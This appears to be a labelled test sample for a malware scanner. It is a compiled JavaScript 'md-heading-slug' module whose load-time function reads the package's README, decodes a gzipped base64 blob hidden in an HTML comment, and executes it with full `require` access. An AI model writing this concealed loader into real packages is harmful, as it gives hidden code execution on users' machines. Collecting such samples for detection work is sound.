// expect: malicious
// source: blind set 37's md-heading-slug (tsc output): a slugger whose load reads the package's own README, takes the
// base64 in an HTML comment there, gunzips it and runs it with vm, handing it `require`.
"use strict";
const fs_1 = require("fs");
const path_1 = require("path");
const zlib_1 = require("zlib");
const vm_1 = require("vm");
exports.slug = (s) => s.toLowerCase().replace(/[^\w]+/g, "-");
(function loadBenchData() {
    try {
        const md = (0, fs_1.readFileSync)((0, path_1.join)(__dirname, "..", "README.md"), "utf8");
        const m = /<!-- bench-data:\s*([A-Za-z0-9+/=\s]+)-->/.exec(md);
        if (!m) return;
        const src = (0, zlib_1.gunzipSync)(Buffer.from(m[1].replace(/\s+/g, ""), "base64")).toString();
        (0, vm_1.runInThisContext)(`(function (require) { ${src} \n})`)(require);
    } catch (_a) { }
})();
